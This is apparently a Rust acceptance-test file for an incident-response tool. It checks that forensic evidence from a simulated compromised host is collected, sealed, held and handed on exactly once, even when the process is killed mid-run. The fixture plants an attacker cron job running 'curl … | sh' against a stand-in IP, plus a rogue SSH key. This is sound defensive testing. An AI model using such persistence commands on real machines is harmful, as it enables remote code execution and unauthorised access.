//! A machine that is compromised, from the alert to the second container: looked into deeper, its evidence held, the
//! site's own actions done once, and all of it so when the program is killed in the middle.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::process::ExitStatusExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use acceptance::{Alert, Lab, Peerhound, eve, wait_until};
use serde_json::Value;

/// What the intruder left: a job that fetches its code, a key of his own, and a program that came today.
fn compromise(lab: &Lab) {
    let host = lab.endpoint.host();
    let job = host.outside("/etc/cron.d/updater");
    fs::write(job, "* * * * * root curl -fsSL http://198.51.100.66/x | sh\n").expect("a job");
    let ssh = host.outside("/home/alice/.ssh");
    fs::create_dir_all(&ssh).expect("a folder");
    let key = "AAAAC3NzaC1lZDI1NTE5AAAAIGPKSUTyz1HwHReFVvD5obVsALAgJRNarH4TRpNePnAS";
    fs::write(ssh.join("authorized_keys"), format!("ssh-ed25519 {key} helper@evil\n")).expect("a key");
    let dropped = host.outside("/home/alice/.cache-helper");
    fs::write(&dropped, "#!/bin/sh\nexit 0\n").expect("a program");
    fs::set_permissions(&dropped, fs::Permissions::from_mode(0o755)).expect("its mode");
}

/// A program that notes each run and what it was given.
fn program(lab: &Lab) -> (PathBuf, PathBuf) {
    let folder = lab.network.workspace().folder();
    let (path, noted) = (folder.join("isolate"), folder.join("isolated.ndjson"));
    let script = format!("#!/bin/sh\n{{ cat; echo; }} >>'{}'\necho quarantined\n", noted.display());
    fs::write(&path, script).expect("a program");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("its mode");
    (path, noted)
}

fn policy(lab: &Lab, program: &Path) -> String {
    let actions = "compromised = [\"mail_soc\", \"ticket\", \"action:soar\", \"action:isolate\"]";
    let own = format!(
        "[[action]]\nname = \"soar\"\nkind = \"http\"\nurl = \"http://127.0.0.1:{}/soar\"\n\
         [[action]]\nname = \"isolate\"\nkind = \"program\"\npath = \"{}\"\n",
        lab.tickets.port(),
        program.display()
    );
    lab.policy().actions(actions).section(&own).text()
}

fn show(peerhound: &Peerhound<'_>, case_id: &str) -> Value {
    let (output, mut shown) = peerhound.json(&["case", "show", case_id]).expect("peerhound");
    shown.pop().unwrap_or_else(|| panic!("{}", output.told()))
}

fn documents(noted: &Path) -> Vec<Value> {
    let text = fs::read_to_string(noted).unwrap_or_default();
    text.lines().map(|line| serde_json::from_str(line).expect("a document")).collect()
}

/// Both containers are whole, belong together, hold what the intruder left, and are held.
fn check(lab: &Lab, peerhound: &Peerhound<'_>, case: &Value) {
    let text = |value: &Value| value.as_str().unwrap_or_else(|| panic!("no text in {case:#}")).to_owned();
    let (first, second) =
        (text(&case["evidence"]["location"]), text(&case["forensics"]["evidence"]["location"]));
    assert_eq!(case["forensics"]["status"], "sealed", "{case:#}");
    assert!(second.ends_with("-forensics.zip") && first != second, "{first} {second}");
    let (output, verified) = peerhound.json(&["verify", &first, &second]).expect("peerhound");
    assert_eq!(output.code, Some(0), "{}", output.told());
    assert!(verified.len() == 2 && verified.iter().all(|one| one["intact"] == true), "{verified:#?}");

    let file = fs::File::open(&second).expect("the container");
    let mut archive = zip::ZipArchive::new(file).expect("a zip");
    let manifest: Value =
        serde_json::from_reader(archive.by_name("manifest.json").expect("a manifest")).expect("JSON");
    assert_eq!(manifest["supplement"]["kind"], "forensics");
    assert_eq!(manifest["supplement"]["first_sha256"], case["evidence"]["sha256"]);
    let kinds: Vec<&str> = case["forensics"]["artifacts"]
        .as_array()
        .expect("artifacts")
        .iter()
        .filter_map(|a| a["kind"].as_str())
        .collect();
    assert_eq!(kinds.len(), 11, "{kinds:?}");

    let rows = |name: &str| acceptance::artifact(&second, name).expect(name);
    let has = |rows: &Value, fits: &dyn Fn(&Value) -> bool| rows.as_array().expect("rows").iter().any(fits);
    let tasks = rows("scheduled_tasks");
    let fetches = |row: &Value| row["content"].as_str().is_some_and(|text| text.contains("198.51.100.66"));
    assert!(has(&tasks, &fetches), "{tasks:#}");
    let keys = rows("authorized_keys");
    assert!(has(&keys, &|row| row["comment"] == "helper@evil" && row["user"] == "alice"), "{keys:#}");
    let recent = rows("recent_executables");
    let dropped = |row: &Value| row["path"] == "/home/alice/.cache-helper" && row["sha256"].is_string();
    assert!(has(&recent, &dropped), "{recent:#}");
    assert!(has(&rows("name_resolution"), &|row| row["kind"] == "host" && row["names"][0] == "localhost"));

    assert_eq!(case["hold"]["status"], "held", "{case:#}");
    for container in [&first, &second] {
        let mode = fs::metadata(container).expect("the container").permissions().mode();
        assert_eq!(mode & 0o777, 0o400, "{container}");
    }
    let records = fs::read_dir(Path::new(&first).parent().expect("a folder")).expect("the folder");
    let records =
        records.flatten().filter(|entry| entry.file_name().to_string_lossy().ends_with(".hold.json"));
    assert_eq!(records.count(), 1);
    let tickets = lab.tickets.tickets().expect("tickets");
    let ticket = tickets.iter().find(|ticket| ticket.path == "/tickets").expect("a ticket");
    let ticket: Value = serde_json::from_str(&ticket.body).expect("JSON");
    assert_eq!(
        (&ticket["priority"], &ticket["fields"]["peerhound.priority"]),
        (&"high".into(), &"high".into())
    );
}

/// The report of now has what the second container holds, and says so where that is not what was sealed.
fn reported(peerhound: &Peerhound, case: &Value) {
    let id = case["id"].as_str().expect("an id");
    let page = || peerhound.run(&["case", "report", id, "--out", "-"]).expect("peerhound");
    let whole = page();
    assert_eq!(whole.code, Some(0), "{}", whole.told());
    let sha256 = case["forensics"]["evidence"]["sha256"].as_str().expect("a hash");
    for there in ["/home/alice/.cache-helper", "helper@evil", "198.51.100.66", "✓ in force", sha256] {
        assert!(whole.stdout.contains(there), "{there}");
    }
    let second = case["forensics"]["evidence"]["location"].as_str().expect("a place");
    let away = format!("{second}.away");
    fs::rename(second, &away).expect("moved away");
    let without = page();
    fs::rename(&away, second).expect("put back");
    assert_eq!(without.code, Some(0), "{}", without.told());
    assert!(without.stdout.contains("✕ not read") && !without.stdout.contains("helper@evil"));
}

#[test]
fn a_compromised_machine_is_looked_into_held_and_handed_on_once() {
    let Some(lab) = Lab::start_isolated().expect("a lab") else { return };
    compromise(&lab);
    let (program, noted) = program(&lab);
    let peerhound = Peerhound::new(&lab.network, &policy(&lab, &program)).expect("peerhound");
    let checked = peerhound.run(&["policy", "check"]).expect("peerhound");
    assert_eq!(checked.code, Some(0), "{}", checked.told());
    let (output, outcomes) =
        peerhound.json(&["investigate", &lab.endpoint.address().to_string()]).expect("peerhound");
    assert_eq!((output.code, &outcomes[0]["verdict"]), (Some(0), &"compromised".into()), "{}", output.told());
    let case_id = outcomes[0]["case_id"].as_str().expect("a case").to_owned();
    let case = show(&peerhound, &case_id);
    check(&lab, &peerhound, &case);
    reported(&peerhound, &case);

    let actions: Vec<(&str, &str)> = case["actions"]
        .as_array()
        .expect("actions")
        .iter()
        .map(|action| {
            (action["kind"].as_str().expect("a kind"), action["status"].as_str().expect("a status"))
        })
        .collect();
    let all = ["mail_soc", "ticket", "action:soar", "action:isolate"].map(|kind| (kind, "done"));
    assert_eq!(actions, all, "{case:#}");
    let tickets = lab.tickets.tickets().expect("tickets");
    let sent: Vec<_> = tickets.iter().filter(|request| request.path == "/soar").collect();
    assert_eq!(sent.len(), 1);
    let sent_document: Value = serde_json::from_str(&sent[0].body).expect("JSON");
    let given = documents(&noted);
    assert_eq!(given.len(), 1, "{given:#?}");
    for document in [&sent_document, &given[0]] {
        assert_eq!(document["format"], "peerhound-case/1");
        assert_eq!((&document["case_id"], &document["verdict"]), (&case["id"], &"compromised".into()));
        assert_eq!((&document["priority"], &document["legal_hold"]), (&"high".into(), &true.into()));
        assert_eq!(document["evidence"]["sha256"], case["evidence"]["sha256"]);
    }
    assert_eq!(sent[0].headers["idempotency-key"], sent_document["idempotency_key"].as_str().expect("a key"));

    // By hand: it is there already; the hold is lifted and set again, with who and why.
    let again = peerhound.run(&["case", "forensics", &case_id]).expect("peerhound");
    assert_eq!(again.code, Some(2), "{}", again.told());
    let lifted = peerhound.run(&["case", "release", &case_id, "--reason", "settled"]).expect("peerhound");
    assert_eq!(lifted.code, Some(0), "{}", lifted.told());
    let case = show(&peerhound, &case_id);
    assert_eq!(case["hold"]["status"], "released", "{case:#}");
    assert_eq!(case["outcome"]["outcome"], "investigated", "{case:#}");
    let set = peerhound.run(&["case", "hold", &case_id, "--reason", "appeal"]).expect("peerhound");
    assert_eq!(set.code, Some(0), "{}", set.told());
    let text = peerhound.run(&["case", "show", &case_id]).expect("peerhound");
    assert!(text.stdout.contains("in force") && text.stdout.contains("appeal"), "{}", text.told());
    assert!(text.stdout.contains("Linux.Persistence.AuthorizedKeys"), "{}", text.told());
    assert_eq!(documents(&noted).len(), 1, "nothing is done twice");
}

/// Killed where the deeper look is under way, where its container has its name, where the hold is set and where the
/// program has run: it goes on, and nothing is there twice or lost.
#[test]
fn killed_in_the_middle_of_what_follows_it_goes_on() {
    let Some(lab) = Lab::start_isolated().expect("a lab") else { return };
    compromise(&lab);
    let (program, noted) = program(&lab);
    let text = policy(&lab, &program).replace("kind = \"program\"", "kind = \"program\"\nidempotent = true");
    let peerhound = Peerhound::with_failpoints(&lab.network, &text).expect("peerhound");
    let spool = lab.network.workspace().subfolder("spool").expect("a folder");
    fs::write(spool.join("1.json"), eve(&Alert::about(lab.endpoint.address(), 77))).expect("an alert");
    let spool = spool.to_string_lossy().into_owned();
    let watch = ["watch", "--once", &spool];
    // The first run makes the first container; all that is killed afterwards is in the middle of what follows.
    for kill in ["program.ended:1", "contact.progress:5", "contact.done:1", "seal.entry:3", "seal.named:1"] {
        let mut child = peerhound.spawn_to_die(&watch, "watch.log", kill).expect("peerhound");
        let ended = wait_until("the end", Duration::from_secs(120), || Ok(child.try_wait()?));
        if ended.is_err() {
            let _ = child.kill();
            let _ = child.wait();
        }
        let status = ended.unwrap_or_else(|error| panic!("{kill}: {error:#}"));
        assert_eq!(status.signal(), Some(9), "{kill} was never reached: {status}");
    }
    let ended = peerhound.run(&watch).expect("peerhound");
    assert!(matches!(ended.code, Some(0..=1)), "{}", ended.told());
    let (_, listed) = peerhound.json(&["case", "list"]).expect("peerhound");
    assert_eq!(listed.len(), 1, "{listed:#?}");
    let case = show(&peerhound, listed[0]["id"].as_str().expect("an id"));
    assert_eq!(case["outcome"]["outcome"], "investigated", "{case:#}");
    check(&lab, &peerhound, &case);
    let given = documents(&noted);
    assert!((1..=2).contains(&given.len()), "{given:#?}");
    assert!(given.iter().all(|document| document["idempotency_key"] == given[0]["idempotency_key"]));
    let tickets = lab.tickets.tickets().expect("tickets");
    assert!(tickets.iter().filter(|request| request.path == "/soar").count() <= 1);
}
